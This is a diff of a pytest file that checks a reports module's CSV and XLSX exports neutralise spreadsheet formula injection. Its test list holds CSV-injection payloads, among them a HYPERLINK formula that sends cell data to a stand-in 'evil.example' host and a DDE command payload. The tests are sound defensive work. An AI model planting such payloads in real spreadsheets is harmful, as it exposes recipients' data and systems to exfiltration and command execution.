@@ -11,7 +11,7 @@ import pytest
 from openpyxl import load_workbook
 
 from recoup.reports.cells import neutralise
-from recoup.reports.monthly import MonthlyReport, write_csv, write_xlsx
+from recoup.reports.monthly import MonthlyReport, csv_path, write_csv, write_xlsx
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
@@ -39,24 +39,31 @@ def test_xlsx_writes_carrier_text_as_text_never_formulas(tmp_path: Path) -> None
     for ws in wb.worksheets:
         for row in ws.iter_rows():
             for cell in row:
+                if ws.title == "Summary" and ws.cell(row=cell.row, column=1).value == "TOTAL":
+                    continue  # recoup's own totals (SUMIF formulas), tested in test_reports_monthly.py
                 assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
-    seen = {c.value for c in wb["Credits"]["F"]}  # description column, the text kept (XML reads CR as LF)
+    head = [c.value for c in wb["Credits"][1]]
+    col = {h: wb["Credits"].cell(row=1, column=j).column_letter for j, h in enumerate(head, 1)}
+    seen = {c.value for c in wb["Credits"][col["description"]]}  # the text kept (XML reads CR as LF)
     assert {t.replace("\r", "\n") for t in HOSTILE} <= seen
-    amounts = [c.value for c in wb["Credits"]["H"][1:]]
+    amounts = [c.value for c in wb["Credits"][col["amount"]][1:]]
     assert all(isinstance(v, int | float) for v in amounts)  # amounts stay numbers
 
 
 def test_report_csv_neutralises_formula_leading_text_and_keeps_numbers(tmp_path: Path) -> None:
     path = write_csv(report(), tmp_path / "r.csv")
-    with path.open(encoding="utf-8", newline="") as fh:
-        rows = list(csv.DictReader(fh))
-    credits = [r for r in rows if r["section"] == "credits"]
+
+    def rows(section: str) -> list[dict[str, str]]:
+        with csv_path(path, section).open(encoding="utf-8", newline="") as fh:
+            return list(csv.DictReader(fh))
+
+    credits = rows("credits")
     assert [r["description"] for r in credits] == ["'" + t.replace("\r", "\n") for t in HOSTILE]
     for r in credits:
         for key in ("invoice_number", "tracking_number", "reference", "description"):
             assert r[key].startswith("'")
         assert r["amount"] == "-12.34"   # a credit stays a negative number
-    f = next(r for r in rows if r["section"] == "findings")
+    f = rows("findings")[0]
     assert f["tracking_number"] == "-1234"      # a plain number is not text to neutralise
     assert f["invoice_number"] == "'=1+1"
     assert f["reason"].startswith("'=")
